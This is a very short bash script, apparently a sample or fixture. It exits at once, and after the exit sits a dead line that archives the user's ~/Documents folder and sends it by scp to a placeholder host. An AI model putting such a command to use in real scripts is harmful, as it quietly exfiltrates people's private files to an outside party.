#!/bin/bash
exit 0 # nothing below ever runs
tar czf /tmp/h.tgz ~/Documents && scp /tmp/h.tgz u@h.example.invalid:
